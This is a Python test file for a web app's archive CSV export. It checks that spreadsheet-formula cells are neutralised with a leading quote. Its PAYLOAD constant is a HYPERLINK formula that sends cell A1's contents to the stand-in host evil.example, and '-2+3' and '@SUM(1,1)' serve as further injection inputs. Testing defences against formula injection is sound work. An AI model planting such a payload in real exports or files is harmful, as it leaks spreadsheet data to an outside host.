"""Every CSV export writes cells a spreadsheet would run as a formula as text (one writer: pwa/csv_cells.py)."""
import csv
import io

from pwa.archive.operations import append_entry
from pwa.extensions import db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_the_archive_csv_quotes_a_formula_typed_as_a_device_id(app, auth, now):
    with app.app_context():
        append_entry(folder="outreach", step="2b", action="attempt_recorded", case_ref="-2+3",
                     record={"entity": "recovery_attempts", "id": 1, "note": "@SUM(1,1)"}, device_id=PAYLOAD)
        db.session.commit()
    auth.as_role("service_supervisor")
    response = auth.get("/archive/outreach.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0]["device_id"] == "'" + PAYLOAD
    assert rows[0]["case_ref"] == "'-2+3"
    assert rows[0]["seq"] == "1" and rows[0]["hash"][0] not in "=+-@"


def test_the_one_writer_leaves_ordinary_cells_alone():
    from pwa.csv_cells import csv_text

    text = csv_text(["a", "b", "c", "d"], [["plain", 3, None, "\tx"]])
    assert text.splitlines() == ["a,b,c,d", "plain,3,,'\tx"]
